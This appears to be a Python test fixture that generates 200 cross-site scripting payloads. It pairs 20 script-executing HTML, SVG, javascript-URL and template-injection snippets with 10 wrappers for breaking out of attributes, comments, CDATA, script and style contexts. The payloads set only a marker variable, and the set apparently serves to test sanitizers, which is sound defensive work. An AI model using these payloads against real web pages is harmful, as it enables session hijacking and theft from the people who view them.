"""Words that a document may hold to run a script in the page of whoever looks at it: 200 of them."""

from __future__ import annotations

from itertools import product

CALL = "window.__pwned=1"
RUNNING = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror='{CALL}'>",
    f"<svg onload='{CALL}'>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin='{CALL}' attributeName=x dur=1s>",
    f"<details open ontoggle='{CALL}'>",
    f"<input autofocus onfocus='{CALL}'>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>">',
    f'<a href="javascript:{CALL}">press</a>',
    f"<form action='javascript:{CALL}'><button autofocus>",
    f"<object data='data:text/html,<script>opener.{CALL}</script>'>",
    f"<math><mi xlink:href='javascript:{CALL}'>press",
    f"<base href='javascript:{CALL}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<style>@import 'javascript:{CALL}';*{{display:none}}</style>",
    f"<template><img src=x onerror='{CALL}'></template>",
    f" onmouseover={CALL} autofocus onfocus={CALL} x=",
    f"javascript:{CALL}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
)
BREAKING_OUT = (
    "{}",
    '">{}',
    "'>{}",
    "</script>{}<script>",
    "</style></title></textarea>{}",
    "-->{}<!--",
    "]]>{}<![CDATA[",
    '\\"}};{}//',
    "\u2028{}\u2029\x00\ufeff",
    "&lt;&quot;&#62;{}",
)
HOSTILE = tuple(way.replace("{}", words) for words, way in product(RUNNING, BREAKING_OUT))
assert len(HOSTILE) == len(set(HOSTILE)) == 200
